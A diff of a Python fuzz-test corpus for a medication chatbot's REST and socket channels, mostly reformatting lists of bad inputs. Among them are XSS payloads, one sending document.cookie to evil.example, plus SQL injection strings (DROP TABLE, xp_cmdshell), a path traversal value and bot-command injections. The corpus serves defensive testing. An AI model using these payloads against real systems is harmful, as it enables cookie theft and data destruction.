@@ -1,6 +1,7 @@
 """The bad-input corpus for the live channels: hand-written cases by kind, plus generated ones
 (seeded, so a failure replays). Each REST case says which statuses are acceptable.
 """
+
 from __future__ import annotations
 
 import json
@@ -65,7 +66,7 @@ HTML_TEXTS = [
     "<img src=x onerror=alert(1)>",
     "<svg/onload=alert(1)>",
     "javascript:alert(document.cookie)",
-    "<a href=\"javascript:alert(1)\">click</a> what is baclofen",
+    '<a href="javascript:alert(1)">click</a> what is baclofen',
     "<iframe src=//evil.example></iframe>",
     "\"><script>fetch('//evil.example?c='+document.cookie)</script>",
     "<b>bold</b> side effects",
@@ -76,19 +77,19 @@ HTML_TEXTS = [
     "![img](https://evil.example/x.png)",
     "<style>body{display:none}</style>",
     "</script><script>alert(1)</script>",
-    "<!--#exec cmd=\"ls\"-->",
+    '<!--#exec cmd="ls"-->',
     "/restart",
-    "/ask_dose{\"disclaimers_shown\": 5}",
+    '/ask_dose{"disclaimers_shown": 5}',
     "/nlu_fallback",
     "/session_start",
-    "/ask_side_effects{\"condition\": \"<script>\"}",
+    '/ask_side_effects{"condition": "<script>"}',
 ]
 RASA_COMMANDS = {"/restart", "/session_start"}
 SQL_TEXTS = [
     "' OR '1'='1",
     "'; DROP TABLE events; --",
     "1; DELETE FROM events WHERE 1=1",
-    "\" OR \"\"=\"",
+    '" OR ""="',
     "admin'--",
     "1' UNION SELECT sender_id, data FROM events --",
     "'; EXEC xp_cmdshell('dir'); --",
@@ -114,19 +115,50 @@ LONG_WORDS = [
 
 WRONG_VALUES = [None, 0, -1, 1.5, 1e308, True, False, [], ["hi"], {}, {"text": "hi"}]
 BAD_SENDERS = [
-    "", " ", "a" * 65, "a b", "../../etc/passwd", "a/b", "a\nb", "ü", "😀", "%00", "a;DROP",
-    "<script>", "a?b", "a#b", "\u200b", "'; --", "a\\b", "tab\there",
+    "",
+    " ",
+    "a" * 65,
+    "a b",
+    "../../etc/passwd",
+    "a/b",
+    "a\nb",
+    "ü",
+    "😀",
+    "%00",
+    "a;DROP",
+    "<script>",
+    "a?b",
+    "a#b",
+    "\u200b",
+    "'; --",
+    "a\\b",
+    "tab\there",
 ]
 MALFORMED_BODIES = [
-    b"", b"{", b"}", b"nul", b"[1,2", b"{'sender': 'a', 'message': 'b'}",
-    b'{"sender": "a", "message": "b",}', b'{"sender": "a" "message": "b"}', b"\x00", b"\x00" * 64,
-    b'{"sender": "a", "message": "b"}garbage', b"<xml/>", b"sender=a&message=b",
-    b'{"sender": "a", "message": NaN}', b'{"sender": "a", "message": Infinity}',
-    b'{"sender": "a", "message": "b\\x41"}', b'{"sender": "a", "message": "unterminated}',
-    b"[" * 5000 + b"]" * 5000, b'{"a":' * 2500 + b"1" + b"}" * 2500,
+    b"",
+    b"{",
+    b"}",
+    b"nul",
+    b"[1,2",
+    b"{'sender': 'a', 'message': 'b'}",
+    b'{"sender": "a", "message": "b",}',
+    b'{"sender": "a" "message": "b"}',
+    b"\x00",
+    b"\x00" * 64,
+    b'{"sender": "a", "message": "b"}garbage',
+    b"<xml/>",
+    b"sender=a&message=b",
+    b'{"sender": "a", "message": NaN}',
+    b'{"sender": "a", "message": Infinity}',
+    b'{"sender": "a", "message": "b\\x41"}',
+    b'{"sender": "a", "message": "unterminated}',
+    b"[" * 5000 + b"]" * 5000,
+    b'{"a":' * 2500 + b"1" + b"}" * 2500,
     b'{"sender": "a", "message": ' + b"1" * 5000 + b"}",
-    b'{"sender": "a", "message": "\xff\xfe"}', b'{"sender": "a", "message": "\xc0\xaf"}',
-    b'{"sender": "a", "message": "\x80"}', b'{"sender": "a", "message": "\xe2\x82"}',
+    b'{"sender": "a", "message": "\xff\xfe"}',
+    b'{"sender": "a", "message": "\xc0\xaf"}',
+    b'{"sender": "a", "message": "\x80"}',
+    b'{"sender": "a", "message": "\xe2\x82"}',
     b'{"sender": "a", "message": "\xed\xa0\x80"}',
     '{"sender": "a", "message": "b"}'.encode("utf-16"),
     b"\x1f\x8b\x08\x00 gzip?",
@@ -197,10 +229,26 @@ def hand_written_rest_cases() -> Iterator[RestCase]:
 
 # Code points to build random texts from: every script direction, joiners, controls,
 # combining marks, surrogate halves, emoji, and plain words the NLU knows.
-_ALPHABET = (
-    list("abcxyz ABC 0129 ?!.,'\"<>&;/\\%$#@") + ["\u200b", "\u200d", "\u202e", "\u0301", "\u0000",
-    "\x1b", "\ufeff", "\u2028", "\ud800", "\udc00", "ب", "ש", "字", "😀", "🏽", "\U0010ffff", "\t", "\n"]
-)
+_ALPHABET = list("abcxyz ABC 0129 ?!.,'\"<>&;/\\%$#@") + [
+    "\u200b",
+    "\u200d",
+    "\u202e",
+    "\u0301",
+    "\u0000",
+    "\x1b",
+    "\ufeff",
+    "\u2028",
+    "\ud800",
+    "\udc00",
+    "ب",
+    "ש",
+    "字",
+    "😀",
+    "🏽",
+    "\U0010ffff",
+    "\t",
+    "\n",
+]
 _WORDS = ["baclofen", "side", "effects", "dose", "what", "is", "pump", "stop", "drowsy", "SELECT", "<b>"]
 
 
@@ -229,7 +277,9 @@ def generated_rest_cases(rng: random.Random) -> Iterator[RestCase]:
     for _ in range(45):
         yield RestCase("generated text", body(_sender(), random_text(rng)), OK, answered=True)
     for _ in range(30):
-        payload = {key: random_json(rng) for key in rng.sample(["sender", "message", "metadata", "x"], rng.randint(0, 4))}
+        payload = {
+            key: random_json(rng) for key in rng.sample(["sender", "message", "metadata", "x"], rng.randint(0, 4))
+        }
         if rng.random() < 0.5:
             payload["sender"] = _sender()
         raw = json.dumps(payload, ensure_ascii=rng.random() < 0.5).encode("utf-8", "surrogatepass")
@@ -258,10 +308,14 @@ def socket_cases(refusals: "dict[str, str]") -> List[SocketCase]:
     session_id = SESSION
     rng = random.Random(SEED + 1)
     cases = [SocketCase("not an object", value, refusals["unreadable"]) for value in ["junk", 42, [1, 2], True]]
-    cases += [SocketCase("wrong type", {"message": value, "session_id": session_id}, refusals["unreadable"])
-              for value in [None, 5, ["hi"], {"a": 1}, False]]
     cases += [
-        SocketCase("oversized", {"message": "x" * (MAX_TEXT_CHARS + 1), "session_id": session_id}, refusals["too_long"]),
+        SocketCase("wrong type", {"message": value, "session_id": session_id}, refusals["unreadable"])
+        for value in [None, 5, ["hi"], {"a": 1}, False]
+    ]
+    cases += [
+        SocketCase(
+            "oversized", {"message": "x" * (MAX_TEXT_CHARS + 1), "session_id": session_id}, refusals["too_long"]
+        ),
         SocketCase("oversized", {"message": "word " * 4000, "session_id": session_id}, refusals["too_long"]),
         SocketCase("blank", {"message": " \t", "session_id": session_id}, refusals["blank"]),
         SocketCase("blank", {"message": "\u200b\u2060", "session_id": session_id}, refusals["blank"]),
@@ -272,7 +326,10 @@ def socket_cases(refusals: "dict[str, str]") -> List[SocketCase]:
         SocketCase("bad metadata", {"message": "hi", "session_id": session_id, "metadata": json.dumps([[[[1]]]])}),
         SocketCase("no session id", {"message": "what is baclofen"}),
     ]
-    texts = UNICODE_TEXTS[::4] + HTML_TEXTS[::4] + SQL_TEXTS[::4] + LONG_WORDS[:2] + [random_text(rng) for _ in range(8)]
-    cases += [SocketCase("text", {"message": text, "session_id": session_id})
-              for text in texts if text not in RASA_COMMANDS]
+    texts = (
+        UNICODE_TEXTS[::4] + HTML_TEXTS[::4] + SQL_TEXTS[::4] + LONG_WORDS[:2] + [random_text(rng) for _ in range(8)]
+    )
+    cases += [
+        SocketCase("text", {"message": text, "session_id": session_id}) for text in texts if text not in RASA_COMMANDS
+    ]
     return cases
